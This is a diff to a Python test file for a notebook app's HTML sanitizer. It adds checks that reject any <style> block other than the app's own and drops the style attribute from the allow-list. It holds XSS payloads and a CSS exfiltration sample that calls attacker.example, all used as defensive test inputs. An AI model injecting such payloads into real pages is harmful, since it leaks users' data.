@@ -11,8 +11,9 @@ from html.parser import HTMLParser
 
 import pytest
 
-from alloy_nb.notebook.safe_text import code_html, markdown_html
 from alloy_nb.testing import ScriptedTurn as Reply
+from alloy_nb.views.reply import code_html, markdown_html
+from alloy_nb.views.style import stylesheet
 
 PAYLOADS = [
     "<script>alert(1)</script>",
@@ -38,16 +39,29 @@ ALLOWED_TAGS = {
     "p", "em", "strong", "code", "pre", "ul", "ol", "li", "a", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote",
     "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "s", "div", "sub", "iframe", "i", "details", "summary",
 }
-ALLOWED_ATTRIBUTES = {"href", "target", "rel", "class", "style", "start", "sandbox", "srcdoc"}
+ALLOWED_ATTRIBUTES = {"href", "target", "rel", "class", "start", "sandbox", "srcdoc"}
+OWN_STYLESHEET = stylesheet("reply")  # the one <style> a reply's view may carry: alloy_nb's rules, to the letter
 
 
 class _Elements(HTMLParser):
     def __init__(self) -> None:
         super().__init__()
         self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.styles: list[str] = []  # the text of each <style>
+        self._in_style = False
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.found.append((tag, dict(attrs)))
+        if tag == "style":
+            self.styles.append("")
+            self._in_style = True
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_style = self._in_style and tag != "style"
+
+    def handle_data(self, data: str) -> None:
+        if self._in_style:
+            self.styles[-1] += data
 
 
 def live_parts(markup: str) -> list[str]:
@@ -55,8 +69,9 @@ def live_parts(markup: str) -> list[str]:
     parser = _Elements()
     parser.feed(markup)
     problems = []
+    problems += [f"<style>{text[:60]}…" for text in parser.styles if text != OWN_STYLESHEET]
     for tag, attrs in parser.found:
-        if tag not in ALLOWED_TAGS:
+        if tag not in ALLOWED_TAGS and tag != "style":
             problems.append(f"<{tag}>")
         problems += [f"<{tag} {name}>" for name in attrs if name not in ALLOWED_ATTRIBUTES]
         href = (attrs.get("href") or "https:").strip().lower()
@@ -71,6 +86,11 @@ def live_parts(markup: str) -> list[str]:
 def test_rendered_markdown_and_code_have_nothing_live(payload: str) -> None:
     assert live_parts(markdown_html(payload)) == []
     assert live_parts(code_html(payload)) == []
+
+
+def test_the_check_sees_a_style_that_is_not_alloy_nbs() -> None:
+    assert live_parts(f"<style>{OWN_STYLESHEET}</style>") == []
+    assert live_parts("<style>p{background:url(https://attacker.example/leak)}</style>") != []
 
 
 def test_markdown_formatting_stays() -> None:
